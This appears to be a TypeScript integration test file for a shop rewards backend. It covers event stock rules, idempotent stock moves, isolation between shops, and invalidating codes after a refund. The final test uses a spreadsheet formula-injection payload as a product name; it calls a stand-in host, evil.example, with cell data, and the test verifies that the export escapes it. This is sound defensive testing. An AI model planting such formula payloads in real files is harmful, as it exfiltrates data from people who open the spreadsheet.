import { randomUUID } from 'node:crypto';
import { strFromU8, unzipSync } from 'fflate';
import type { EventView } from '@yanxinyuan/shared/rewards/events';
import type { StockMoveKind } from '@yanxinyuan/shared/rewards/stock';
import { HOUR_MS, MINUTE_MS } from '@yanxinyuan/shared/time';
import { openShop, OTHER_SHOP, riderWith, SHOP, shopkeeper } from '../../support/rewards';
import { shopForThisFile } from '../../support/shop';
import { fetched, ordered } from '../../support/till';

const on = shopForThisFile();

const moving = (itemId: string, kind: StockMoveKind, quantity: number, id: string = randomUUID()) => ({
  params: { id },
  body: { itemId, kind, quantity, reason: '店主自己动的' },
});

describe('cheap goods of a redemption day', () => {
  /** Six pieces for a point each, which the district pays in full. */
  async function bargain(): Promise<{ event: EventView; itemId: string; base: string }> {
    const base = await openShop(on.app, { stock: 50, settlementFen: 3000 });
    const event = await on.supervisor.call('putEvent', {
      params: { id: randomUUID() },
      body: {
        name: '集中兑换日',
        shopId: SHOP,
        startsAt: on.time.inHours(1),
        endsAt: on.time.inHours(5),
        items: [{ itemId: base, stock: 6, points: 1, limit: 6 }],
      },
    });
    return { event, base, itemId: event.items[0]?.id ?? '' };
  }
  const more: [StockMoveKind, number][] = [
    ['in', 1],
    ['in', 10_000],
    ['count', 7],
  ];

  test.each([
    ['before it starts', 0],
    ['while it runs', 2],
  ])('do not become more by the shop’s word %s', async (_, hours) => {
    const { itemId } = await bargain();
    await on.time.goOn(hours * HOUR_MS);
    for (const [kind, quantity] of more)
      await on.keeper.refused('putStockMove', 'STOCK_OF_EVENT', moving(itemId, kind, quantity));
    // What is broken or missing is said, and a count that agrees.
    await on.keeper.call('putStockMove', moving(itemId, 'count', 6));
    await on.keeper.call('putStockMove', moving(itemId, 'writeOff', 1));
    await on.keeper.call('putStockMove', moving(itemId, 'count', 4));
    await on.keeper.refused('putStockMove', 'STOCK_OF_EVENT', moving(itemId, 'count', 5));
  });

  test('are nobody’s to move once it is over or called off', async () => {
    const [{ itemId: over, base, event }, { itemId: off, event: called }] = [await bargain(), await bargain()];
    await on.supervisor.call('deleteEvent', { params: { id: called.id } });
    await on.time.goTo(Date.parse(event.endsAt) + 6 * MINUTE_MS + 1000);
    await on.time.goOnWorking(0);
    for (const itemId of [over, off]) {
      for (const [kind, quantity] of more) {
        await on.keeper.refused('putStockMove', 'STOCK_OF_EVENT', moving(itemId, kind, quantity));
      }
    }
    expect((await on.keeper.call('listStock')).find((one) => one.itemId === base)?.available).toBe(50);
  });
});

test('one id for moves of two shelves at once: one of them, and no fault', async () => {
  for (let round = 0; round < 4; round += 1) {
    const items = await Promise.all([openShop(on.app), openShop(on.app), openShop(on.app)]);
    const id = randomUUID();
    const answers = await Promise.all(items.map((one) => on.keeper.send('putStockMove', moving(one, 'in', 1, id))));
    expect(answers.map(({ status }) => status).sort()).toEqual([200, 409, 409]);
  }
});

describe('a shopkeeper of another shop', () => {
  test('reaches no order, shelf or month by its id', async () => {
    const itemId = await openShop(on.app, { stock: 10 });
    await openShop(on.app, { shopId: OTHER_SHOP });
    const stranger = await shopkeeper(on.app, OTHER_SHOP);
    const order = await fetched(on.app, on.keeper, { itemId });
    const month = (await on.keeper.call('listSettlements', { query: {} }))[0]?.month ?? '';
    expect(month).toMatch(/^20/);
    const params = { shop: SHOP, month };
    await stranger.refused('putRefund', 'ORDER_WRONG_SHOP', {
      params: { id: order.id },
      body: { reason: '退货', goods: 'back' },
    });
    await stranger.refused('putStockMove', 'NOT_FOUND', moving(itemId, 'out', 1));
    await stranger.refused('listStockMoves', 'NOT_FOUND', { params: { itemId }, query: {} });
    await stranger.refused('putStockThreshold', 'NOT_FOUND', { params: { itemId }, body: { lowAt: 0 } });
    await stranger.refused('getSettlement', 'NOT_FOUND', { params });
    await stranger.refused('getSettlementFile', 'NOT_FOUND', { params });
    // Nor does a month's own shop close it.
    for (const who of [stranger, on.keeper]) {
      await who.refused('putSettlement', 'NO_PERMISSION', { params, body: { points: 0, fen: 0 } });
    }
    expect((await stranger.call('listSettlements', { query: {} })).map(({ shopId }) => shopId)).not.toContain(SHOP);
  });
});

test('a code is worth nothing after the refund, shown before or asked for again', async () => {
  const itemId = await openShop(on.app, { stock: 10 });
  const rider = await riderWith(on.app, 20);
  const { id } = await ordered(on.app, { itemId, rider });
  const { code, digits } = await rider.call('getOrderCode', { params: { id } });
  await on.keeper.call('createRedemption', { body: { code, orderId: id } });
  await on.keeper.call('putRefund', { params: { id }, body: { reason: '退货', goods: 'back' } });
  await rider.refused('getOrderCode', 'ORDER_REFUNDED', { params: { id } });
  await on.keeper.refused('lookupRedemption', 'CODE_USED', { body: { code } });
  for (const text of [code, digits]) {
    await on.keeper.refused('createRedemption', 'ORDER_REFUNDED', { body: { code: text, orderId: id } });
  }
  await rider.refused('deleteOrder', 'ORDER_REFUNDED', { params: { id } });
  expect(await rider.call('getPointsAccount')).toMatchObject({ available: 20, held: 0 });
});

test('a name that is a formula is a text in the month’s file', async () => {
  const name = '=HYPERLINK("http://evil.example/"&A1,"合计")';
  const itemId = await openShop(on.app, { name });
  await fetched(on.app, on.keeper, { itemId });
  const month = (await on.keeper.call('listSettlements', { query: {} }))[0]?.month ?? '';
  const { url } = await on.keeper.call('getSettlementFile', { params: { shop: SHOP, month } });
  const file = await on.app.http.get(url).responseType('blob');
  expect(file.status).toBe(200);
  const parts = Object.entries(unzipSync(file.body as Buffer)).map(
    ([part, bytes]) => [part, strFromU8(bytes)] as const,
  );
  expect(parts.filter(([, xml]) => /<f[ >/]/.test(xml)).map(([part]) => part)).toEqual([]);
  expect(parts.some(([, xml]) => xml.includes('=HYPERLINK('))).toBe(true);
});
